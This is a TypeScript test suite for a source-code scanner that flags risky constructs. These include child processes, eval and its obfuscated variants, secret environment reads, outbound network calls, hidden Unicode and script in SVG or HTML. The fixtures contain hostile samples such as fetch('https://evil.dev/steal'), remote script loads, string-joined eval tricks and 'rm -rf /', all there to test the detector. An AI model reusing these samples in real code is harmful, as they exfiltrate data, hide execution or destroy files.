import { describe, expect, test } from 'vitest';
import { scanCode } from '../../../src/consent/scan.ts';

const found = (text: string, file = 'server/a.ts'): readonly string[] =>
  scanCode(new Map([[file, text]])).map(({ kind, what, line }) => `${line} ${kind} ${what}`);

describe('the code scan finds', () => {
  test.each([
    ["import { spawn } from 'node:child_process';", 'processes node:child_process'],
    ["const { exec } = require('child_process');", 'processes child_process'],
    ["await import('child_process');", 'processes child_process'],
    ['await import(`node:worker_threads`);', 'processes node:worker_threads'],
    ["export * from 'node:cluster';", 'processes node:cluster'],
    ["process.getBuiltinModule('child_process');", 'processes getBuiltinModule'],
    ["eval('1');", 'evaluation eval'],
    ["new Function('return 1')();", 'evaluation Function'],
    ["globalThis['eval']('1');", 'evaluation eval'],
    ["[].constructor.constructor('return process')();", 'evaluation constructor'],
    ["setTimeout('alert(1)', 1);", 'evaluation setTimeout'],
    ["import vm from 'node:vm';", 'evaluation node:vm'],
    ['await import(name);', 'imports import()'],
    ['require(`./${name}`);', 'imports require'],
    ["fetch('https://evil.dev/steal');", 'network evil.dev'],
    ['fetch(`https://user:word@evil.dev:8080/${id}`);', 'network evil.dev'],
    ["new WebSocket('wss://live.evil.dev');", 'network live.evil.dev'],
    ["import { connect } from 'node:net';", 'network node:net'],
    ["import code from 'https://evil.dev/x.js';", 'network evil.dev'],
    ['const key = process.env.STRIPE_KEY;', 'environment STRIPE_KEY'],
    ["const key = process.env['STRIPE_KEY'];", 'environment STRIPE_KEY'],
    ['const key = process.env?.STRIPE_KEY;', 'environment STRIPE_KEY'],
    ['const { STRIPE_KEY: key } = process.env;', 'environment STRIPE_KEY'],
    ['const key = import.meta.env.VITE_KEY;', 'environment VITE_KEY'],
    ['const all = process.env;', 'environment all variables'],
    ['const value = process.env[name];', 'environment all variables'],
    ["import { env } from 'node:process';", 'environment all variables'],
    ["import { writeFile } from 'node:fs/promises';\nwriteFile('a', 'b');", '2 files writeFile'],
    ["import fs from 'fs';\nfs.promises.rm('a');", '2 files rm'],
    ['page.innerHTML = text;', 'markup innerHTML'],
    ["document.write('x');", 'markup document.write'],
    ['prisma.$queryRawUnsafe(text);', 'sql $queryRawUnsafe'],
    ['prisma.$executeRaw`DELETE FROM User`;', 'sql $executeRaw'],
    ['enum A { b = eval("1") }', 'evaluation eval'],
    ['const a = <any>eval("1");', 'evaluation eval'],
  ])('%s', (text, sign) => {
    expect(found(text)).toContainEqual(expect.stringContaining(sign));
  });

  test('markup in JSX and the hosts in it', () => {
    const page =
      'export const Page = () => (\n  <a href="https://evil.dev">\n    <b dangerouslySetInnerHTML={{ __html: x }} />\n  </a>\n);\n';
    expect(found(page, 'client/Page.tsx')).toEqual(['2 network evil.dev', '3 markup dangerouslySetInnerHTML']);
  });

  test('each kind once per line', () => {
    expect(found('\n\neval(a); eval(b);\neval(c);\n')).toEqual(['3 evaluation eval', '4 evaluation eval']);
  });
});

describe('the scan finds code that hides', () => {
  const payload = "eval('1');";
  test.each<readonly [string, Readonly<Record<string, string>>, readonly string[]]>([
    [
      'in a data file',
      { 'server/a.ts': "import './b.dat';", 'server/b.dat': payload },
      ['nonModules ./b.dat', 'evaluation eval'],
    ],
    [
      'in a file without extension',
      { 'server/a.ts': "require('./b')", 'server/b': payload },
      ['nonModules ./b', 'evaluation eval'],
    ],
    ['in Markdown', { 'client/a.ts': "import t from './b.md?raw';", 'client/b.md': 'text' }, ['nonModules ./b.md?raw']],
    ['in declarations', { 'server/b.d.ts': payload }, ['evaluation eval']],
    ['in declarations that are imported', { 'server/a.ts': "import './b.d.ts';" }, ['nonModules ./b.d.ts']],
    ['in an environment file', { 'client/a.ts': "import x from '../.env?raw';" }, ['nonModules ../.env?raw']],
    [
      'in an address',
      { 'client/a.ts': "import('data:text/javascript,alert(1)');" },
      ['evaluation data:text/javascript,alert(1)'],
    ],
    ['in an image', { 'public/a.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>' }, ['inline onload']],
    [
      'in the styles of an image',
      { 'public/a.svg': '<svg><style>@import "https://evil.dev/a.css";</style></svg>' },
      ['network evil.dev'],
    ],
    [
      'in a hidden address of an image',
      { 'public/a.svg': '<svg><style>@\\69mport "https://evil.dev/a.css";</style></svg>' },
      ['network evil.dev'],
    ],
    [
      'in an attribute of an image',
      { 'public/a.svg': '<svg><path fill="url(https://evil.dev/a.svg#b)"/></svg>' },
      ['network evil.dev'],
    ],
    ['in no place of an image', { 'public/a.svg': '<svg><path fill="url( \'#b\')" style="fill: red"/></svg>' }, []],
    ['in a page', { 'public/a.html': '<p>\n<script>eval("1")</script>' }, ['inline <script>', 'evaluation eval']],
    ['in a link', { 'public/a.html': '<a href="javascript:x()">' }, ['inline javascript:']],
    ['in JSX', { 'client/a.tsx': 'export const A = () => <script>x()</script>;' }, ['inline <script>']],
  ])('%s', (_, files, signs) => {
    const found = scanCode(new Map(Object.entries(files))).map(({ kind, what }) => `${kind} ${what}`);
    expect(found.toSorted()).toEqual([...signs].toSorted());
  });

  test.each([
    [
      "import { createRequire } from 'node:module';\ncreateRequire(a)(b);",
      ['1 imports node:module', '2 imports createRequire'],
    ],
    ["new Worker(new URL('./w.ts', import.meta.url));", ['1 workers Worker']],
    ['new SharedWorker(a);', ['1 workers SharedWorker']],
    ["navigator.serviceWorker.register('/sw.js');", ['1 workers serviceWorker']],
    ["import W from './w.ts?worker';", ['1 workers ./w.ts?worker']],
    ["globalThis['ev' + 'al'](x);", ['1 computed globalThis[…]']],
    ['window[name](x);', ['1 computed window[…]']],
    ["Reflect.get(globalThis, 'ev' + 'al');", ['1 computed globalThis']],
    ["Reflect.get(process, 'binding');", ['1 computed process']],
    ['const g = globalThis; g[x];', ['1 computed globalThis']],
    ["a['con' + 'structor'];", ['1 computed joined name']],
    ["a[['con', 'structor'].join('')];", ['1 computed joined name']],
    ["const a = '\u202E';", ['1 hidden U+202E']],
    ['a\u200B();', ['1 hidden U+200B', '1 unread not understood']],
    [`a();${' '.repeat(120)}b();`, ['1 hidden text behind spaces']],
    [`const a = [${'1,'.repeat(6000)}];`, ['1 long 12013 characters']],
    ["const a = document.createElement('script'); a.src = '//evil.dev/x.js';", ['1 network evil.dev']],
  ])('%.80s', (text, signs) => {
    expect(found(text)).toEqual(signs);
  });

  test.each([
    ['names in maps', "const a = list[index]; const b = table[`${x}`]; counts['a' + i] += 1;"],
    [
      'modules, data, styles and images',
      "import a from './a.json'; import './a.css'; import b from './b.svg'; import './c';",
    ],
    ['properties of the window', "window.location.href; document.title = 'x'; window.addEventListener('focus', f);"],
    [
      'words in all scripts',
      "const a = '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645';",
    ],
  ])('and ignores %s', (_, text) => {
    expect(found(text)).toEqual([]);
  });
});

describe('the scan ignores', () => {
  test.each([
    ['comments', "// eval('1') https://evil.dev\n/* require(name) */"],
    ['strings', 'const help = "call eval(x), process.env.KEY or child_process";'],
    ['patterns', 'const pattern = /eval(x)/;'],
    ['types', "import type { Stats } from 'node:net';\ntype A = 'https://evil.dev';\nlet a: typeof import('node:vm');"],
    ['names that every object has', 'x.toString(); x.hasOwnProperty(y); new toString();'],
    ['methods that are called like writers', 'map.open(); list.copyFile();'],
    ['the machine itself and names that lead nowhere', "fetch('http://localhost:3000'); fetch('https://example.com');"],
    ['what Node and Vite say of themselves', "process.env.NODE_ENV === 'production'; import.meta.env.DEV;"],
    [
      'modules that only read or compute',
      "import { join } from 'node:path';\nimport { readFile } from 'node:fs/promises';",
    ],
  ])('%s', (_, text) => {
    expect(found(text)).toEqual([]);
  });

  test('files without code', () => {
    expect(found('see https://evil.dev and eval(x)', 'README.md')).toEqual([]);
  });
});

describe('the scan reports files it cannot read', () => {
  test.each([
    ['a script of another kind', { 'scripts/go.sh': 'rm -rf /' }, 'no script'],
    ['a program by its first line', { 'scripts/go': '#!/bin/sh\nrm -rf /' }, 'no script'],
    ['a syntax nobody knows', { 'server/a.ts': 'let = = ;' }, 'not understood'],
    ['a nest that no parser gets out of', { 'server/a.js': '('.repeat(100_000) }, 'too complex'],
    // Without a deadline, parsing this file takes extremely long.
    ['one made to take for ever', { 'server/a.ts': `${'<any>('.repeat(60)}1${')'.repeat(60)}` }, 'too complex'],
  ])('%s', (_, files, why) => {
    const findings = scanCode(new Map(Object.entries(files)));
    expect(findings.filter(({ kind }) => kind !== 'long').map(({ kind, what }) => [kind, what])).toEqual([
      ['unread', why],
    ]);
  });

  test('reads deeply nested code completely', () => {
    expect(found(`${'[].concat('.repeat(100)}eval(x)${')'.repeat(100)}`)).toEqual(['1 evaluation eval']);
  });
});
